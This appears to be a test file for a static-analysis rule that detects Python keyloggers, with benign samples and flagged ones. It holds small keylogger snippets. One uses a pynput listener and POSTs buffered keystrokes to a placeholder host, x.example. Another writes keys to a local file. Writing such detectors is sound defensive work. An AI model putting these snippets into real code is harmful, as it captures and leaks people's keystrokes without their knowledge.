import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-keylogger.js';

ruleTest(rule, {
  clean: [
    { name: 'media-player hotkeys with pynput GlobalHotKeys', file: 'hotkeys.py', code: "from pynput import keyboard\n\nwith keyboard.GlobalHotKeys({'<ctrl>+<alt>+p': print}) as h:\n    h.join()\n" },
    { name: 'reading a key from stdin', file: 'menu.py', code: "import requests\nchoice = input('key: ')\nrequests.get('https://api.example.org/items')\n" },
  ],
  flagged: [
    {
      name: 'pynput Listener with keys POSTed on a timer',
      file: 'tracker.py',
      code: "import requests\nfrom pynput import keyboard\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\ndef flush():\n    requests.post('http://x.example/keys', data={'k': ''.join(buf)})\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
      findings: [{ line: 8, severity: 'critical', confidence: 'high', message: /keyboard hook .*sends data out with requests\.post \(line 7\)/ }],
    },
    {
      name: 'keyboard.on_press alone: medium',
      file: 'log.py',
      code: "import keyboard\nkeyboard.on_press(lambda e: open('k.txt', 'a').write(e.name))\nkeyboard.wait()\n",
      findings: [{ line: 2, severity: 'medium', confidence: 'medium' }],
    },
  ],
});
